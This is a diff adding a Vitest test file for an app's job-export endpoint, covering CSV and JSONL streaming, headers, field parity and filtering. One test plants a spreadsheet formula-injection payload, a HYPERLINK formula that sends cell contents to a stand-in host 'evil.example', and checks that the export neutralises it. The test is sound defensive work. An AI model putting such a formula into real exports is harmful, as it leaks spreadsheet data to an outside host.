@@ -1,0 +1,140 @@
+import { join } from 'node:path';
+import { parse } from 'csv-parse/sync';
+import { eq } from 'drizzle-orm';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { type Db, openDatabase, users } from '@/lib/db';
+import { type RunningApp, startApp } from '../../setup/app';
+import { type Client, signedIn } from '../../setup/client';
+import { addJobs } from '../../setup/many-jobs';
+import { temporaryFolder } from '../../setup/temp-folder';
+
+const COUNT = 20_000;
+const START = Date.UTC(2026, 0, 1);
+/** Line breaks, a number that JSON.parse would change, an escape. */
+const BODY = '{"status" : "success",\r\n "big":12345678901234567890,"note":"\\n\\u00e9"}';
+
+const folder = temporaryFolder();
+const url = `file:${join(folder.path, 'bottega.db')}`;
+let app: RunningApp;
+let database: { db: Db; close: () => void };
+
+beforeAll(async () => {
+  app = await startApp({ env: { DATABASE_URL: url } });
+  database = await openDatabase(url);
+});
+afterAll(async () => {
+  await app?.stop();
+  database?.close();
+  folder.remove();
+});
+
+async function somebody(): Promise<{ client: Client; id: string }> {
+  const client = await signedIn(app.url);
+  const [user] = await database.db.select().from(users).where(eq(users.email, client.email));
+  return { client, id: String(user?.id) };
+}
+const rowsOf = (csv: string) =>
+  parse(csv, { bom: true, columns: true, record_delimiter: '\r\n' }) as Record<string, string>[];
+const linesOf = (jsonl: string) => jsonl.split('\n').slice(0, -1);
+
+describe('20,000 jobs', () => {
+  let owner: { client: Client; id: string };
+  const ids = Array.from({ length: COUNT }, (_, n) => `job-${String(n).padStart(6, '0')}`);
+  beforeAll(async () => {
+    owner = await somebody();
+    const added = ids.map((id, n) => ({ id, at: START + n, label: `Zimmer ${n}, "Süd"` }));
+    await addJobs(database.db, owner.id, added);
+    ids.reverse();
+  });
+
+  it.each(['csv', 'jsonl'])('come once each as %s, while others are added', async (format) => {
+    const response = await owner.client.fetch(`/api/jobs/export?format=${format}&q=job-`);
+    const reader = response.body?.pipeThrough(new TextDecoderStream()).getReader();
+    let text = '';
+    let chunks = 0;
+    for (;;) {
+      const { done, value } = (await reader?.read()) ?? { done: true };
+      if (done) break;
+      text += value;
+      chunks += 1;
+      if (chunks > 5) continue;
+      const id = `job-late-${format}-${chunks}`;
+      await addJobs(database.db, owner.id, [{ id, at: START + 2 * COUNT + chunks }]);
+    }
+    expect(chunks).toBeGreaterThan(5);
+    const seen = (
+      format === 'csv' ? rowsOf(text) : linesOf(text).map((line) => JSON.parse(line))
+    ).map(({ id }) => id);
+    const late = seen.filter((id) => id.startsWith('job-late-'));
+    expect(seen.slice(late.length)).toEqual(ids);
+    // Only those of the run before: what is added under way stands before the first page.
+    expect(late.filter((id) => id.startsWith(`job-late-${format}`))).toEqual([]);
+  });
+});
+
+describe('a file', () => {
+  it('says what it is and when it was made', async () => {
+    const { client } = await somebody();
+    for (const [format, type] of [
+      ['csv', 'text/csv; charset=utf-8'],
+      ['jsonl', 'application/x-ndjson; charset=utf-8'],
+    ]) {
+      const response = await client.fetch(`/api/jobs/export?format=${format}`);
+      expect(response.headers.get('content-type')).toBe(type);
+      expect(response.headers.get('content-disposition')).toMatch(
+        new RegExp(`^attachment; filename="bottega-jobs-\\d{4}-\\d{2}-\\d{2}\\.${format}"$`),
+      );
+      expect(response.headers.get('cache-control')).toBe('private, no-store');
+    }
+  });
+
+  it('of an empty history has its header, or nothing', async () => {
+    const { client } = await somebody();
+    const csv = Buffer.from(await (await client.fetch('/api/jobs/export')).arrayBuffer());
+    expect(csv.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
+    expect(csv.subarray(3).toString()).toBe(
+      'id,label,state,status,mode,output,failure,createdAt,settledAt,checkedAt,addedAt,archivedAt,url\r\n',
+    );
+    expect(await (await client.fetch('/api/jobs/export?format=jsonl')).text()).toBe('');
+  });
+
+  it('has the same fields in both formats, and runs no formula', async () => {
+    const { client, id } = await somebody();
+    const label = '=HYPERLINK("https://evil.example?"&A1,"x")';
+    const failed = '{"status":"failed","error":"+49 is no room"}';
+    await addJobs(database.db, id, [
+      { id: 'fields-1', at: START, label, body: BODY },
+      { id: '-fields-2', at: START + 1, state: 'failed', body: failed },
+    ]);
+    const rows = rowsOf(await (await client.fetch('/api/jobs/export')).text());
+    const lines = linesOf(await (await client.fetch('/api/jobs/export?format=jsonl')).text());
+    const objects = lines.map((line) => JSON.parse(line));
+    expect(rows.map((row) => row.label)).toEqual(['', `'${label}`]);
+    expect(rows.map((row) => row.id)).toEqual(["'-fields-2", 'fields-1']);
+    expect(rows.map((row) => row.failure)).toEqual(["'+49 is no room", '']);
+    expect(objects.map((job) => [job.id, job.label, job.failure])).toEqual([
+      ['-fields-2', null, '+49 is no room'],
+      ['fields-1', label, null],
+    ]);
+    expect(rows[1]).toMatchObject({
+      state: 'succeeded',
+      mode: 'furnish',
+      addedAt: '2026-01-01T00:00:00.000Z',
+      archivedAt: '',
+      url: `${app.url}/jobs/fields-1`,
+    });
+    expect(Object.keys(objects[0])).toEqual([...Object.keys(rows[0] ?? {}), 'body']);
+    expect(lines[1]).toContain('"big":12345678901234567890');
+    expect(objects[1].body).toEqual(JSON.parse(BODY));
+  });
+
+  it('keeps to the filter', async () => {
+    const { client, id } = await somebody();
+    await addJobs(database.db, id, [
+      { id: 'filter-1', at: START },
+      { id: 'filter-2', at: START + 1, state: 'failed' },
+    ]);
+    const response = await client.fetch('/api/jobs/export?state=failed&mode=furnish');
+    expect(rowsOf(await response.text()).map((row) => row.id)).toEqual(['filter-2']);
+  });
+});
